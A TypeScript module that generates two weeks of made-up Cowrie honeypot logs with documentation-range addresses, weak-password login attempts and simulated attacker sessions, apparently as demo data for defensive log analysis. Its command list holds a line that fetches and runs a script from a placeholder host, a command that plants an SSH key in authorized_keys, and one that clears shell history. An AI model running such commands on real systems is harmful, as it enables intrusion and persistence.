import { createHash } from "node:crypto";
import { writeFileSync } from "node:fs";
import { join } from "node:path";

/**
 * Writes a fortnight of made-up Cowrie logs, one file a day, the same bytes at every call. Addresses are of the
 * documentation networks; credentials are invented.
 */
export function writeDemoLogs(folder: string, sessionsPerDay: number): string[] {
  const random = randomNumbers(20_260_101);
  const pick = <T>(values: readonly T[]): T => values[Math.floor(random() ** 1.6 * values.length)] as T;
  const files: string[] = [];
  for (let day = 0; day < 14; day++) {
    const lines: { at: number; text: string }[] = [];
    const start = Date.UTC(2026, 0, 5 + day);
    for (let index = 0; index < sessionsPerDay; index++) lines.push(...session(start, random, pick));
    lines.sort((left, right) => left.at - right.at);
    const file = join(folder, `cowrie.json.${new Date(start).toISOString().slice(0, 10)}`);
    writeFileSync(file, lines.map(({ text }) => `${text}\n`).join(""));
    files.push(file);
  }
  return files;
}

type Pick = <T>(values: readonly T[]) => T;

const users = ["root", "admin", "ubuntu", "pi", "oracle", "postgres", "git", "test", "deploy"] as const;
const passwords = [
  "123456",
  "admin",
  "password",
  "root",
  "raspberry",
  "1234",
  "letmein",
  "changeme",
  "qwerty",
] as const;
const versions = [
  "SSH-2.0-Go",
  "SSH-2.0-libssh2_1.11.0",
  "SSH-2.0-OpenSSH_9.6",
  "SSH-2.0-paramiko_3.4.0",
] as const;
const sensors = ["harbour", "orchard", "lighthouse"] as const;
const commands = [
  "uname -a",
  "cat /proc/cpuinfo | grep name | wc -l",
  "cd /tmp; wget http://203.0.113.80/x.sh; sh x.sh",
  "free -m",
  "w",
  "crontab -l",
  'mkdir -p ~/.ssh; echo "ssh-ed25519 AAAAexample demo" >> ~/.ssh/authorized_keys',
  "history -c",
] as const;

function session(day: number, random: () => number, pick: Pick): { at: number; text: string }[] {
  const lines: { at: number; text: string }[] = [];
  const busy = 0.5 + 0.5 * Math.sin(random() * 6.28);
  let at = day + Math.floor((random() * 0.6 + busy * 0.4) * 86_000_000);
  const id = hex(random, 12);
  const sensor = pick(sensors);
  const address = `${pick(["192.0.2", "198.51.100", "203.0.113"])}.${1 + Math.floor(random() ** 2 * 254)}`;
  const isTelnet = random() < 0.2;
  const envelope = { session: id, src_ip: address, sensor, protocol: isTelnet ? "telnet" : "ssh" };
  const began = at;
  const add = (wait: number, event: Record<string, unknown>): void => {
    at += Math.floor(wait);
    const micros = String(Math.floor(random() * 1000)).padStart(3, "0");
    const timestamp = new Date(at).toISOString().replace("Z", `${micros}Z`);
    lines.push({ at, text: JSON.stringify({ ...event, ...envelope, timestamp }) });
  };
  add(0, {
    eventid: "cowrie.session.connect",
    src_port: 1024 + Math.floor(random() * 60_000),
    dst_ip: "192.0.2.1",
    dst_port: isTelnet ? 23 : 22,
  });
  if (!isTelnet) add(200, { eventid: "cowrie.client.version", version: pick(versions) });
  let isIn = false;
  for (let attempt = 0; attempt < 4 && !isIn; attempt++) {
    isIn = random() < 0.18;
    add(300 + random() * 2_000, {
      eventid: isIn ? "cowrie.login.success" : "cowrie.login.failed",
      username: pick(users),
      password: pick(passwords),
    });
  }
  for (let count = isIn ? Math.floor(random() * 9) : 0; count > 0; count--) {
    const input = pick(commands);
    add(200 + random() * 3_000, { eventid: "cowrie.command.input", input, message: `CMD: ${input}` });
    if (input.includes("wget")) {
      const shasum = createHash("sha256")
        .update(String(Math.floor(random() * 12)))
        .digest("hex");
      add(700, {
        eventid: "cowrie.session.file_download",
        url: "http://203.0.113.80/x.sh",
        shasum,
        destfile: "/tmp/x.sh",
      });
    }
  }
  add(100 + random() * 20_000, {
    eventid: "cowrie.session.closed",
    duration: ((at - began) / 1000).toFixed(1),
  });
  return lines;
}

function hex(random: () => number, digits: number): string {
  let text = "";
  while (text.length < digits) text += Math.floor(random() * 16).toString(16);
  return text;
}

/** A linear congruential generator (Numerical Recipes' constants): the same numbers on every machine. */
function randomNumbers(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return state / 4_294_967_296;
  };
}
